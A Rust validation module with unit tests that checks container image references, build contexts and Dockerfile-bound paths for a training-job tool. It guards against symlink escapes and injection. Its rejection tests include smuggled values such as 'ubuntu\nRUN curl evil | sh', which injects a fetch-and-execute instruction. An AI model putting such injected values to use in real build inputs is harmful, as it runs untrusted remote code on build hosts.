//! Rules about where a job's image comes from: `image`, or `build` inputs
//! that exist on disk, and a framework version the preset knows; and the
//! grammar of everything that is written into a Dockerfile or names an
//! image, with a warning for references that can change under the same
//! name.

use std::path::{Component, Path};

use super::Context;
use crate::load::Findings;
use crate::model::definition::TrainingJob;
use crate::model::job::{RoleKind, image_name, split_reference};

pub(super) fn check(cx: &mut Findings, def: &TrainingJob, vcx: &Context) {
    let spec = &def.spec;
    let Some(preset) = vcx.library.preset(def.framework_name()) else {
        cx.error(
            "/spec/framework",
            format!("no preset for framework `{}`", def.framework_name()),
            "add `presets/<framework>.yaml` to the project's library",
        );
        return;
    };
    if let Some(v) = &spec.framework_version
        && !preset.versions.contains_key(v)
    {
        let known: Vec<&str> = preset.versions.keys().map(String::as_str).collect();
        cx.error(
            "/spec/frameworkVersion",
            format!("the {} preset has no version {v}", preset.framework),
            format!(
                "use one of {}, or add `{v}` to `versions` in the library's presets/{}.yaml",
                known.join(", "),
                preset.framework
            ),
        );
    }
    let every_role_has_image = RoleKind::ALL.iter().all(|k| {
        k.of(&spec.roles)
            .is_none_or(|r| r.replicas == 0 || r.image.is_some())
    });
    match (&spec.image, &spec.build) {
        (Some(_), Some(_)) => cx.error_at_key(
            "/spec/build",
            "a job takes `image` or `build`, not both",
            "keep `build` to have trainc build the image, or `image` to use a ready one",
        ),
        (None, None) if !every_role_has_image => cx.error_at_key(
            "/spec",
            "a job needs an `image` or `build` inputs",
            "add `image: registry.example.com/ml/mnist:1.0`, or `build: {context: ., entrypoint: train.py, repository: …}`",
        ),
        _ => {}
    }
    references(cx, def);
    let Some(build) = &spec.build else {
        return;
    };
    for (field, value) in [
        ("entrypoint", Some(&build.entrypoint)),
        ("requirements", build.requirements.as_ref()),
    ] {
        if let Some(why) = value.and_then(|v| dockerfile_path_error(v)) {
            cx.error(
                &format!("/spec/build/{field}"),
                why,
                "it is written into the Dockerfile (`COPY`, `CMD [\"…\"]`): use letters, digits, '_', '.', '-' and '/'",
            );
        }
    }
    // Relative to the definition file, as a Dockerfile's COPY is to its context.
    let def_dir = vcx
        .root
        .join(&cx.doc.file.name)
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_default();
    let context = def_dir.join(&build.context);
    if !context.is_dir() {
        cx.error(
            "/spec/build/context",
            format!("build context `{}` is not a directory", build.context),
            "give a directory relative to the definition file",
        );
        return;
    }
    if let Some(why) = outside_repository(&build.context, &context, vcx.top) {
        cx.error(
            "/spec/build/context",
            why,
            "a build context is sent whole to the image builder (`COPY . .`): it must lie inside the repository (the directory holding `.git`, else the project root), also through symlinks",
        );
        return;
    }
    unsettled(cx, &build.context, &context, vcx);
    for (field, value) in [
        ("entrypoint", Some(&build.entrypoint)),
        ("requirements", build.requirements.as_ref()),
    ] {
        let Some(value) = value else { continue };
        let at = format!("/spec/build/{field}");
        let p = Path::new(value);
        if p.components()
            .any(|c| !matches!(c, Component::Normal(_) | Component::CurDir))
        {
            cx.error(
                &at,
                format!("`{value}` must lie inside the build context"),
                "give a path relative to `build.context`, without `..`",
            );
        } else if !context.join(p).is_file() {
            cx.error(
                &at,
                format!(
                    "`{value}` is not a file in the build context `{}`",
                    build.context
                ),
                "paths in `build` other than `context` are relative to the context",
            );
        }
    }
}

/// Why the build context `context` (as `written`) lies outside the
/// repository `top`, as it resolves: a committed symlink to
/// `~/.docker` would otherwise ship the runner's files in the image.
fn outside_repository(written: &str, context: &Path, top: &Path) -> Option<String> {
    let real = context.canonicalize().ok()?;
    let top = top.canonicalize().unwrap_or_else(|_| top.to_path_buf());
    if real.starts_with(&top) {
        return None;
    }
    let lexical = crate::guard::clean(context);
    Some(if lexical.starts_with(&top) {
        format!(
            "build context `{written}` resolves to `{}`, outside the repository",
            crate::emit::comment_safe(&real.to_string_lossy())
        )
    } else {
        format!("build context `{written}` lies outside the repository")
    })
}

/// A context that holds `.git` or a directory trainc writes would give the
/// image a new tag with every commit or build, and the run would start
/// again each time. Each such entry is its own finding, so that one run
/// names them all.
fn unsettled(cx: &mut Findings, written: &str, context: &Path, vcx: &Context) {
    const AT: &str = "/spec/build/context";
    // The file to edit, from the project root as the definitions are named.
    let def_dir = Path::new(&cx.doc.file.name)
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_default();
    let ignore = crate::load::normalize(&def_dir.join(written).join(".dockerignore"));
    for entry in crate::image::unsettled(context, vcx.generated) {
        match entry {
            crate::image::Unsettled::Git(rel) => cx.error(
                AT,
                format!(
                    "the build context includes `{rel}`, which changes with every commit: so would the image tag, and the run would start again each time"
                ),
                format!("add a line `{rel}` to {ignore}"),
            ),
            crate::image::Unsettled::Written(rel, what) => cx.error(
                AT,
                format!(
                    "the build context includes the {what} `{rel}`, which every build rewrites: the image tag would never settle"
                ),
                format!("add a line `{rel}` to {ignore}"),
            ),
            crate::image::Unsettled::Within(dir, what) => cx.error(
                AT,
                format!(
                    "the build context lies inside the {what} `{}`, which every build rewrites: the image tag would never settle",
                    crate::load::display_name(vcx.root, &dir)
                ),
                "point `build.context` at a directory that trainc does not write",
            ),
        }
    }
}

/// Every image reference of a definition, held to the reference grammar:
/// the base image lands in the Dockerfile's `FROM` line, where `ubuntu\`
/// would continue the line into the next instruction, and the others in
/// pod templates, where the kubelet would fail to pull them only at run
/// time.
/// Every image reference a definition writes, with its JSON pointer.
fn image_fields(def: &TrainingJob) -> Vec<(String, &str)> {
    let spec = &def.spec;
    let mut refs: Vec<(String, &str)> = Vec::new();
    refs.extend(spec.image.as_deref().map(|i| ("/spec/image".to_owned(), i)));
    for k in RoleKind::ALL {
        if let Some(i) = k.of(&spec.roles).and_then(|r| r.image.as_deref()) {
            refs.push((format!("/spec/roles/{}/image", k.as_str()), i));
        }
    }
    if let Some(i) = spec.tensorboard.as_ref().and_then(|t| t.image.as_deref()) {
        refs.push(("/spec/tensorboard/image".to_owned(), i));
    }
    if let Some(i) = spec.build.as_ref().and_then(|b| b.base_image.as_deref()) {
        refs.push(("/spec/build/baseImage".to_owned(), i));
    }
    refs
}

/// Why a valid reference can name different images over time, if it can.
pub fn mutable(image: &str) -> Option<&'static str> {
    match split_reference(image) {
        (_, _, Some(_)) => None,
        (_, None, None) => Some("has no tag, so it means `latest`"),
        (_, Some("latest"), None) => Some("is tagged `latest`"),
        _ => None,
    }
}

fn references(cx: &mut Findings, def: &TrainingJob) {
    let spec = &def.spec;
    for (at, r) in image_fields(def) {
        if let Some(why) = reference_error(r) {
            cx.error(&at, why, REFERENCE_HINT);
        } else if let Some(why) = mutable(r) {
            // `ubuntu` or `:latest` today is another image tomorrow: the run
            // would change without its definition changing.
            let name = image_name(r);
            cx.warning(
                &at,
                format!("image `{r}` {why}: it can point at another image at any time"),
                format!("pin a tag (`{name}:1.2.3`) or a digest (`{name}@sha256:…`)"),
            );
        }
    }
    if let Some(b) = &spec.build
        && let Some(why) = name_error(&b.repository)
    {
        cx.error("/spec/build/repository", why, REFERENCE_HINT);
    }
    if let Some(r) = spec
        .tensorboard
        .as_ref()
        .and_then(|t| t.repository.as_deref())
        && let Some(why) = name_error(r)
    {
        cx.error("/spec/tensorboard/repository", why, REFERENCE_HINT);
    }
}

/// How to write an image reference.
pub const REFERENCE_HINT: &str = "write an image reference `[registry[:port]/]path[:tag][@digest]`, e.g. `registry.example.com/ml/mnist:1.0` or `ubuntu:24.04@sha256:<64 hex digits>`";

/// The longest image name (without tag and digest), as registries and
/// Docker allow.
const NAME_MAX: usize = 255;

/// Why `s` is not an image reference, as the distribution reference grammar
/// defines one (what Docker, containerd and the kubelet parse):
///
/// ```text
/// reference := name [ ":" tag ] [ "@" digest ]
/// name      := [ domain "/" ] path-component ( "/" path-component )*
/// domain    := host [ ":" port ]
/// tag       := [A-Za-z0-9_] [A-Za-z0-9_.-]{0,127}
/// digest    := algorithm ":" hex{32,}
/// ```
///
/// `None` when it is one.
pub fn reference_error(s: &str) -> Option<String> {
    if let Some(c) = s.chars().find(|c| {
        !(c.is_ascii_alphanumeric()
            || matches!(c, '.' | '_' | '-' | '/' | ':' | '@' | '+' | '[' | ']'))
    }) {
        return Some(format!(
            "`{}` is not an image reference: {} cannot appear in one",
            printable(s),
            shown_char(c)
        ));
    }
    let bad = |why: &str| {
        Some(format!(
            "`{}` is not an image reference: {why}",
            printable(s)
        ))
    };
    let (name, tag, digest) = split_reference(s);
    if let Some(d) = digest
        && !digest_ok(d)
    {
        return bad("the digest must be `algorithm:hex`, e.g. `sha256:` and 64 hex digits");
    }
    if let Some(t) = tag
        && !tag_ok(t)
    {
        return bad(
            "a tag is 1 to 128 letters, digits, '_', '.' and '-', not starting with '.' or '-'",
        );
    }
    name_error(name).map(|why| format!("`{}` is not an image reference: {why}", printable(s)))
}

/// Why `name` is not an image name (a reference without tag and digest).
pub fn name_error(name: &str) -> Option<String> {
    if name.is_empty() {
        return Some("the name is empty".to_owned());
    }
    if name.len() > NAME_MAX {
        return Some(format!(
            "the name is {} characters, over the {NAME_MAX}-character limit",
            name.len()
        ));
    }
    let parts: Vec<&str> = name.split('/').collect();
    let path_ok = |parts: &[&str]| parts.iter().all(|p| path_component_ok(p));
    let ok = |parts: &[&str]| {
        path_ok(parts) || (parts.len() > 1 && domain_ok(parts[0]) && path_ok(&parts[1..]))
    };
    if ok(&parts) {
        None
    } else if ok(&name.to_ascii_lowercase().split('/').collect::<Vec<_>>()) {
        Some("the path after the registry must be lower case".to_owned())
    } else {
        Some(
            "the path is lower-case letters and digits, separated by '/', and inside a component by '.', '_', '__' or dashes; a registry host comes first"
                .to_owned(),
        )
    }
}

/// `s` for a message: control characters escaped, at most 100 characters.
fn printable(s: &str) -> String {
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i == 100 {
            out.push('…');
            break;
        }
        if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

fn shown_char(c: char) -> String {
    if c == ' ' {
        "a space".to_owned()
    } else if c.is_control() {
        format!("the control character {}", c.escape_unicode())
    } else if c.is_whitespace() || !c.is_ascii() {
        format!("the character {}", c.escape_unicode())
    } else {
        format!("`{c}`")
    }
}

/// `[a-z0-9]+ ( ( "." | "_" | "__" | "-"+ ) [a-z0-9]+ )*`
fn path_component_ok(p: &str) -> bool {
    let b = p.as_bytes();
    let alnum = |c: &u8| c.is_ascii_lowercase() || c.is_ascii_digit();
    if b.is_empty() || !alnum(&b[0]) || !alnum(&b[b.len() - 1]) {
        return false;
    }
    // Every run of separators between alphanumerics is one allowed separator.
    let mut run = String::new();
    for c in p.chars() {
        if c.is_ascii_lowercase() || c.is_ascii_digit() {
            if !(run.is_empty()
                || run == "."
                || run == "_"
                || run == "__"
                || run.bytes().all(|c| c == b'-'))
            {
                return false;
            }
            run.clear();
        } else if matches!(c, '.' | '_' | '-') {
            run.push(c);
        } else {
            return false;
        }
    }
    true
}

/// `host [":" port]`: DNS labels of letters, digits and inner dashes
/// separated by dots, or an IPv4 address (which that covers), or an IPv6
/// address in brackets.
fn domain_ok(d: &str) -> bool {
    let (host, port) = if let Some(rest) = d.strip_prefix('[') {
        let Some((v6, after)) = rest.split_once(']') else {
            return false;
        };
        if v6.is_empty() || !v6.chars().all(|c| c.is_ascii_hexdigit() || c == ':') {
            return false;
        }
        match after {
            "" => return true,
            a => match a.strip_prefix(':') {
                Some(p) => ("x", Some(p)),
                None => return false,
            },
        }
    } else {
        match d.split_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (d, None),
        }
    };
    let label = |l: &str| {
        let b = l.as_bytes();
        !b.is_empty()
            && b[0].is_ascii_alphanumeric()
            && b[b.len() - 1].is_ascii_alphanumeric()
            && b.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-')
    };
    host.split('.').all(label)
        && port.is_none_or(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()))
}

/// `[A-Za-z0-9_] [A-Za-z0-9_.-]{0,127}`
fn tag_ok(t: &str) -> bool {
    let b = t.as_bytes();
    !b.is_empty()
        && b.len() <= 128
        && (b[0].is_ascii_alphanumeric() || b[0] == b'_')
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-'))
}

/// `algorithm ":" hex{32,}`, the algorithm's components `[A-Za-z][A-Za-z0-9]*`
/// separated by one of `+ . _ -`.
fn digest_ok(d: &str) -> bool {
    let Some((alg, hex)) = d.split_once(':') else {
        return false;
    };
    let alg_ok = alg.split(['+', '.', '_', '-']).all(|c| {
        let b = c.as_bytes();
        !b.is_empty() && b[0].is_ascii_alphabetic() && b.iter().all(u8::is_ascii_alphanumeric)
    });
    alg_ok && hex.len() >= 32 && hex.bytes().all(|c| c.is_ascii_hexdigit())
}

/// Why a path written into a Dockerfile (`COPY`, `WORKDIR`, inside the
/// JSON array of `CMD`) is unsafe there. Only letters, digits, `_`, `.`,
/// `-` and `/` are allowed: no space (which splits `COPY` arguments), no
/// quote or backslash (which end or escape a JSON string), no line break
/// (which ends the instruction), no `$` (which Docker expands), and no
/// leading `-` (which `COPY` would read as a flag). `None` when it is safe.
pub fn dockerfile_path_error(p: &str) -> Option<String> {
    if p.is_empty() {
        return Some("the path is empty".to_owned());
    }
    if let Some(c) = p
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-' | '/')))
    {
        return Some(format!(
            "`{}` cannot be written into a Dockerfile: {} cannot appear in it",
            printable(p),
            shown_char(c)
        ));
    }
    if p.starts_with('-') {
        return Some(format!(
            "`{p}` cannot be written into a Dockerfile: it would read as a flag"
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn references_split_as_the_grammar_says() {
        assert_eq!(split_reference("ubuntu"), ("ubuntu", None, None));
        assert_eq!(
            split_reference("registry:5000/ml/x"),
            ("registry:5000/ml/x", None, None)
        );
        assert_eq!(
            split_reference("registry:5000/ml/x:1.0@sha256:ab"),
            ("registry:5000/ml/x", Some("1.0"), Some("sha256:ab"))
        );
    }

    #[test]
    fn only_untagged_and_latest_are_mutable() {
        assert!(mutable("ubuntu").is_some());
        assert!(mutable("ubuntu:latest").is_some());
        assert!(mutable("registry:5000/ubuntu").is_some());
        assert!(mutable("ubuntu:24.04").is_none());
        assert!(mutable("ubuntu@sha256:0123").is_none());
        assert!(mutable("ubuntu:latest@sha256:0123").is_none());
    }

    #[test]
    fn image_references() {
        for ok in [
            "ubuntu",
            "ubuntu:24.04",
            "library/ubuntu",
            "tensorflow/tensorflow:2.21.0-gpu",
            "registry.example.com/ml/mnist:1.0",
            "localhost:5000/a/b:c",
            "my-registry.io:443/a__b/c.d/e---f:v1_0.A-b",
            "127.0.0.1:5000/x",
            "[::1]:5000/x:y",
            "Registry.Example.com/x",
            "ubuntu@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "ubuntu:24.04@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ] {
            assert_eq!(reference_error(ok), None, "{ok}");
        }
        for bad in [
            "",
            "ubuntu\\",
            "ubuntu\n",
            "ubuntu\nRUN curl evil | sh",
            "ubuntu latest",
            "\"ubuntu\"",
            "Ubuntu",
            "ubuntu:",
            "ubuntu:-x",
            ":tag",
            "a//b",
            "a/-b",
            "a/b-",
            "a..b",
            "a___b",
            "ubuntu@sha256:abc",
            "ubuntu@:0123456789abcdef0123456789abcdef",
            "${BASE}",
            "ubuntu:24.04\u{2028}",
            "host:port/x",
            &format!("a/{}", "b".repeat(300)),
            &format!("a:{}", "b".repeat(129)),
        ] {
            assert!(reference_error(bad).is_some(), "{bad:?}");
        }
        assert_eq!(
            reference_error("ubuntu\\").unwrap(),
            "`ubuntu\\` is not an image reference: `\\` cannot appear in one"
        );
    }

    #[test]
    fn upper_case_paths_are_named_as_such() {
        assert_eq!(
            reference_error("Ubuntu:24.04").unwrap(),
            "`Ubuntu:24.04` is not an image reference: the path after the registry must be lower case"
        );
        assert_eq!(reference_error("Registry.Example.com:5000/ml/x:1"), None);
    }

    #[test]
    fn dockerfile_paths() {
        for ok in ["train.py", "src/train.py", "./a-b_c.py", "/app", "python3"] {
            assert_eq!(dockerfile_path_error(ok), None, "{ok}");
        }
        for bad in [
            "",
            "a b.py",
            "a\"b",
            "a\\",
            "a\nRUN x",
            "$HOME/x",
            "--chown=0:0",
            "a\u{2028}b",
        ] {
            assert!(dockerfile_path_error(bad).is_some(), "{bad:?}");
        }
    }
}
